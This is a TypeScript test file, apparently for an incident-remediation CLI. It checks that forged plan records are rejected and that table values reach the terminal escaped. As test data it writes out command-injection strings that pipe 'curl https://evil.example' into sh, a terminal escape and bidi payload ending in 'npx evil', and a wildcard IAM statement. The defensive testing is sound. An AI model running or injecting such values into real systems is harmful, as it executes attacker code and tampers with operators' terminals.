import type { Plan } from '../../lambda/core/plan/plan';
import {
  approved,
  broken,
  decide,
  decisionsOn,
  hubOf,
  itemOf,
  mailsAbout,
  mayWriteTable,
  put,
  told,
  worldOf,
  type World,
} from './fixture';

/** What stands in the table may have been written by whoever took over a role that writes incidents. */
let world: World;
beforeAll(async () => (world = await worldOf(['diff', 'added', 'region', 'owner', 'head', 'open', 'decided'])));
afterAll(() => world.close());

const show = (id: string, ...more: readonly string[]) =>
  world.cli('show', id, ...more, ...hubOf(world), '--profile', 'operator');

describe('a plan whose hash is right', () => {
  const FOREIGN = { Sid: 'X', Effect: 'Allow', Principal: '*', Action: 'backup:*', Resource: '*' };
  it.each<[string, string, Partial<Plan>]>([
    ['another diff', 'diff', { diff: '--- before\n+++ after\n@@ -1 +1 @@\n nothing changes\n' }],
    ['another statement to add', 'added', { added: [FOREIGN] as unknown as Plan['added'] }],
    ['a command in the place of the Region', 'region', { region: 'eu-west-1; curl https://evil.example | sh #' }],
    ['another owner', 'owner', { owner: '666666666666' }],
  ])('is neither shown nor decided on with %s', async (_, name, forged) => {
    const { incident } = await told(world, broken(name));
    const item = await itemOf(world, incident, 'PLAN#');
    const plan = JSON.parse(String(item['plan'])) as Plan;
    await put(world, mayWriteTable(world), { ...item, plan: JSON.stringify({ ...plan, ...forged }) });
    for (const form of ['cfn', 'cdk', 'cli', 'terraform']) {
      const { code, stdout, stderr } = await show(incident.id, '--as', form);
      expect([code, stdout]).toEqual([1, '']);
      expect(stderr).toContain('is not the one that its hash names');
    }
    expect((await show(incident.id)).stdout).not.toMatch(/nothing changes|evil|"X"/);
    expect((await decide(world, 'approve', incident)).code).toBe(1);
    expect(await decisionsOn(world, incident)).toEqual([]);
    await put(world, mayWriteTable(world), item);
  });
});

it('an incident is called as its key says, and is told once', async () => {
  const { incident } = await told(world, broken('head'));
  const mails = world.sandbox.published.length;
  const head = await itemOf(world, incident, 'HEAD');
  const due = world.sandbox.clock.now().toISOString();
  const agenda = { ...(head['agenda'] as object), notify: due };
  const id = `${incident.id} --region eu-west-1; curl https://evil.example | sh #`;
  await put(world, mayWriteTable(world), { ...head, id, tell: 'reminder', agenda, due, duePartition: 'DUE' });
  expect((await show(incident.id)).stdout).not.toContain('evil');
  await world.pass(180_000);
  const after = mailsAbout(world, incident, mails);
  expect(after).toHaveLength(1);
  expect(after.map(({ email }) => email).join()).not.toContain('evil');
});

it('no attribute of an item reaches the terminal raw', async () => {
  const { incident } = await told(world, broken('open'));
  const { incident: other } = await told(world, broken('decided'));
  await approved(world, other);
  const ids = [incident.id, other.id];
  const items = (await world.table.items()).filter(({ pk }) => ids.some((id) => String(pk).includes(id)));
  const tried = new Set<string>();
  const raw: string[] = [];
  for (const item of items) {
    for (const path of textsIn(item)) {
      const name = `${String(item['sk']).replace(/#.*/, '')}.${path.join('.')}`;
      if (tried.has(name)) continue;
      tried.add(name);
      await put(world, mayWriteTable(world), withText(item, path));
      for (const id of ids) {
        const { stdout, stderr } = await show(id);
        if (SEEN.test(stdout + stderr)) raw.push(`show: ${name}`);
      }
      const { stdout, stderr } = await world.cli('incidents', '--all', ...hubOf(world), '--profile', 'operator');
      if (SEEN.test(stdout + stderr)) raw.push(`incidents: ${name}`);
      await put(world, mayWriteTable(world), item);
    }
  }
  expect(raw).toEqual([]);
  expect(tried.size).toBeGreaterThan(50);
});

const EVIL = '\u001b]0;x\u0007\u202e\n    npx evil';
const SEEN = /[\u0007\u001b\u202e]|^ {4}npx evil/m;
/** Keys; and what has tests of its own. */
const LEFT = ['pk', 'sk', 'due', 'duePartition', 'state', 'plan', 'evidence'];

function textsIn(value: unknown, path: readonly string[] = []): readonly (readonly string[])[] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) =>
    path.length === 0 && LEFT.includes(key) ? [] : textsIn(member, [...path, key]),
  );
}

function withText<T>(value: T, [key, ...rest]: readonly string[]): T {
  if (key === undefined) return `${String(value)}${EVIL}` as T;
  const copy = (Array.isArray(value) ? [...(value as unknown[])] : { ...value }) as Record<string, unknown>;
  copy[key] = withText(copy[key], rest);
  return copy as T;
}
